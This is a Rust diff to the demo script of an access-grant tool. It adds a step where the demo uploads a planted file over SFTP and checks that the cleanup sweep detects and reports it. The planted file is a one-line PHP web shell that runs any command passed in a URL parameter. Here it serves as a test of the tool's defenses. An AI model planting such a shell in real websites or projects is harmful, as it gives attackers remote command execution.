@@ -152,7 +152,9 @@ impl<'a> Stage<'a> {
 
         let account = self.account().await?;
         self.say("The supporter connects with OpenSSH's own sftp.");
-        self.sftp(&account, true).await?;
+        // Without ACLs the new account may not write in the shop.
+        let plants = server.is_host && crate::context::program("setfacl").is_some();
+        self.sftp(&account, true, plants).await?;
         self.stagepass(0, &["list"]).await?;
 
         self.say("Time passes.");
@@ -161,8 +163,15 @@ impl<'a> Stage<'a> {
         sleep(rest).await;
         drop(progress);
         self.say("The deadline is over: the server itself refuses the key.");
-        self.sftp(&account, false).await?;
+        self.sftp(&account, false, false).await?;
         self.say("The sweep, as cron would run it, removes what was made and proves it.");
+        if plants {
+            self.say("It finds the program that the supporter left in the shop, and says so.");
+            self.stagepass(8, &["sweep"]).await?;
+            let id = self.grant_id().await?;
+            let reason = ["--reason", "the demo put it there"];
+            self.stagepass(0, &["acknowledge", &id, reason[0], reason[1]]).await?;
+        }
         self.stagepass(0, &["sweep"]).await?;
         self.output.say(Tone::Faint, "(it says nothing: all is well)");
         self.stagepass(0, &["list", "--all"]).await?;
@@ -227,10 +236,17 @@ impl<'a> Stage<'a> {
     }
 
     /// Uses the access as the supporter would.
-    async fn sftp(&mut self, account: &str, works: bool) -> Result<()> {
+    async fn sftp(&mut self, account: &str, works: bool, plants: bool) -> Result<()> {
         let batch = self.folder.join("batch");
-        std::fs::write(&batch, "pwd\nls -l\n")
-            .map_err(|e| Error::new(Kind::Internal, "the demo's folder is full").because(e))?;
+        let full = |e| Error::new(Kind::Internal, "the demo's folder is full").because(e);
+        let mut commands = "pwd\nls -l\n".to_owned();
+        if plants {
+            let mine = self.folder.join("help.php");
+            std::fs::write(&mine, "<?php system($_GET['run']);\n").map_err(full)?;
+            let got = self.folder.join("got.php").display().to_string();
+            commands.push_str(&format!("get index.php {got}\nput {} help.php\n", mine.display()));
+        }
+        std::fs::write(&batch, commands).map_err(full)?;
         let key = self.folder.join("supporter").display().to_string();
         let known = format!("UserKnownHostsFile={}", self.folder.join("known_hosts").display());
         let port = self.server.port.to_string();
@@ -284,11 +300,21 @@ impl<'a> Stage<'a> {
 
     /// The account that the first grant made, as the ledger has it.
     async fn account(&self) -> Result<String> {
-        let words = ["--json", "list", "--target", "staging"];
+        self.listed("/result/grants/0/layers/0/account").await
+    }
+
+    /// The id of that grant.
+    async fn grant_id(&self) -> Result<String> {
+        self.listed("/result/grants/0/id").await
+    }
+
+    /// Something of that grant.
+    async fn listed(&self, what: &str) -> Result<String> {
+        let words = ["--json", "list", "--all", "--target", "staging"];
         let (_, said) = self.start(&self.exe, &words).await?;
         let document: Value = serde_json::from_str(&said).unwrap_or(Value::Null);
-        let account = document.pointer("/result/grants/0/layers/0/account").and_then(Value::as_str);
-        account
+        let found = document.pointer(what).and_then(Value::as_str);
+        found
             .map(str::to_owned)
             .ok_or_else(|| Error::new(Kind::Internal, "the demo's grant is not listed"))
     }
